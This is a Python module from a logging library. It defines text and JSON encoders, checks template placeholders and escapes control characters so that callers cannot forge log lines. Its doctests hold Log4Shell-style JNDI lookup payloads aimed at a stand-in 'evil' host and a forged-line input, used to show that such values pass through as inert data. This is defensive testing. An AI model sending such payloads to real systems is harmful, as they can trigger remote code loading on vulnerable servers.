"""Encoders turning :class:`LogRecord` objects into sink payloads.

Purpose
-------
Render records as single-line text or JSON. Argument values and structured
fields are data: they are substituted once and never parsed again, so lookup
syntax such as ``${jndi:...}`` reaches the sink verbatim.

Contents
--------
* :func:`build_format_payload` - placeholder values exposed to text templates.
* :class:`TextEncoder` / :class:`JsonEncoder` - :class:`EncoderPort` adapters.
* :func:`create_encoder` / :func:`create_encoders` - factories used by the runtime.

System Role
-----------
Used by the sink dispatcher, once per record and output format. Encoders raise
:class:`EncodingError` only when the output cannot be represented (for example
lone surrogates that UTF-8 cannot encode).
"""

from __future__ import annotations

import json
from string import Formatter
from typing import Any, Mapping

from lib_log_dispatch.application.ports.encoder import EncoderPort
from lib_log_dispatch.domain.errors import EncodingError
from lib_log_dispatch.domain.formats import EncodingFormat
from lib_log_dispatch.domain.records import LogRecord


_TEXT_PRESETS: dict[str, str] = {
    "full": "{timestamp} {LEVEL:<7} {logger_name} {record_id} {message}{fields_text}",
    "short": "{hh}:{mm}:{ss}|{level_code}|{logger_name}: {message}",
    "message": "{message}",
}

_CONTROL_ESCAPES: dict[int, str] = {code: f"\\x{code:02x}" for code in range(0x20)}
_CONTROL_ESCAPES.update({code: f"\\x{code:02x}" for code in range(0x7F, 0xA0)})
_CONTROL_ESCAPES.update({0x09: "\\t", 0x0A: "\\n", 0x0D: "\\r"})
_CONTROL_ESCAPES.update({0x2028: "\\u2028", 0x2029: "\\u2029"})
# Line breaks and terminal escapes in user data would let a caller forge lines.


def escape_controls(text: str) -> str:
    """Return ``text`` with control characters replaced by visible escapes.

    Examples
    --------
    >>> escape_controls("ok\\nINFO forged line")
    'ok\\\\nINFO forged line'
    >>> escape_controls("${jndi:ldap://x/a}")
    '${jndi:ldap://x/a}'
    """

    return text.translate(_CONTROL_ESCAPES)


def resolve_preset(preset: str) -> str:
    key = preset.strip().lower()
    try:
        return _TEXT_PRESETS[key]
    except KeyError as exc:
        raise ValueError(f"Unknown text format preset: {preset!r}") from exc


def build_format_payload(record: LogRecord) -> dict[str, Any]:
    """Return the mapping of placeholders exposed to text templates."""

    fields = {key: value for key, value in record.fields.items() if value is not None}
    fields_text = ""
    if fields:
        fields_text = " " + " ".join(f"{escape_controls(str(key))}={escape_controls(str(value))}" for key, value in sorted(fields.items()))
    level_text = record.level.severity.upper()
    ts = record.timestamp
    return {
        "timestamp": ts.isoformat(),
        "YYYY": f"{ts.year:04d}",
        "MM": f"{ts.month:02d}",
        "DD": f"{ts.day:02d}",
        "hh": f"{ts.hour:02d}",
        "mm": f"{ts.minute:02d}",
        "ss": f"{ts.second:02d}",
        "level": level_text,
        "LEVEL": level_text,
        "level_name": record.level.name,
        "level_code": record.level.code,
        "level_icon": record.level.icon,
        "logger_name": escape_controls(record.logger_name),
        "record_id": record.record_id,
        "message": escape_controls(record.render()),
        "template": escape_controls(record.template),
        "fields": dict(record.fields),
        "fields_text": fields_text,
    }


_KNOWN_PLACEHOLDERS = frozenset(
    (
        "timestamp YYYY MM DD hh mm ss level LEVEL level_name level_code level_icon "
        "logger_name record_id message template fields fields_text"
    ).split()
)


def _validate_template(template: str) -> str:
    """Reject templates referencing unknown or positional placeholders."""

    try:
        parsed = list(Formatter().parse(template))
    except ValueError as exc:
        raise ValueError(f"Invalid text template {template!r}: {exc}") from exc
    for _literal, field_name, _spec, _conversion in parsed:
        if field_name is None:
            continue
        base = field_name.split(".", 1)[0].split("[", 1)[0]
        if base not in _KNOWN_PLACEHOLDERS:
            raise ValueError(f"Unknown placeholder {{{field_name}}} in text template")
    return template


class TextEncoder(EncoderPort):
    """Render one line per record from a preset or ``str.format`` template.

    Examples
    --------
    >>> from datetime import datetime, timezone
    >>> from lib_log_dispatch.domain.levels import LogLevel
    >>> record = LogRecord('r1', datetime(2025, 9, 30, 12, 0, tzinfo=timezone.utc), 'app', LogLevel.WARNING, 'User input: {}', ('${jndi:ldap://evil/a}',))
    >>> TextEncoder(preset='short').encode(record)
    b'12:00:00|WARN|app: User input: ${jndi:ldap://evil/a}\\n'
    """

    format = EncodingFormat.TEXT

    def __init__(self, *, template: str | None = None, preset: str | None = None) -> None:
        if template is not None:
            self._template = _validate_template(template)
        else:
            self._template = resolve_preset(preset or "full")

    @property
    def template(self) -> str:
        return self._template

    def encode(self, record: LogRecord) -> bytes:
        try:
            line = self._template.format(**build_format_payload(record))
        except Exception as exc:  # noqa: BLE001 - __str__ of caller data may raise anything
            raise EncodingError(record.record_id, self.format.value, repr(exc)) from exc
        return _to_utf8(record, self.format, line + "\n")


class JsonEncoder(EncoderPort):
    """Render one JSON object per line using :meth:`LogRecord.to_dict`."""

    format = EncodingFormat.JSON

    def __init__(self, *, sort_keys: bool = True) -> None:
        self._sort_keys = sort_keys

    def encode(self, record: LogRecord) -> bytes:
        try:
            text = json.dumps(record.to_dict(), sort_keys=self._sort_keys, ensure_ascii=False, allow_nan=False)
        except Exception as exc:  # noqa: BLE001
            raise EncodingError(record.record_id, self.format.value, repr(exc)) from exc
        return _to_utf8(record, self.format, text + "\n")


def _to_utf8(record: LogRecord, encoding: EncodingFormat, text: str) -> bytes:
    try:
        return text.encode("utf-8")
    except UnicodeEncodeError as exc:
        raise EncodingError(record.record_id, encoding.value, str(exc)) from exc


def create_encoder(
    encoding: EncodingFormat | str,
    *,
    text_template: str | None = None,
    text_preset: str | None = None,
) -> EncoderPort:
    """Return the encoder for ``encoding``."""

    resolved = encoding if isinstance(encoding, EncodingFormat) else EncodingFormat.from_name(encoding)
    if resolved is EncodingFormat.JSON:
        return JsonEncoder()
    return TextEncoder(template=text_template, preset=text_preset)


def create_encoders(
    text_template: str | None = None,
    *,
    text_preset: str | None = None,
) -> Mapping[EncodingFormat, EncoderPort]:
    """Return one encoder per supported format, keyed by :class:`EncodingFormat`."""

    return {fmt: create_encoder(fmt, text_template=text_template, text_preset=text_preset) for fmt in EncodingFormat}


__all__ = [
    "JsonEncoder",
    "TextEncoder",
    "build_format_payload",
    "create_encoder",
    "create_encoders",
    "escape_controls",
    "resolve_preset",
]
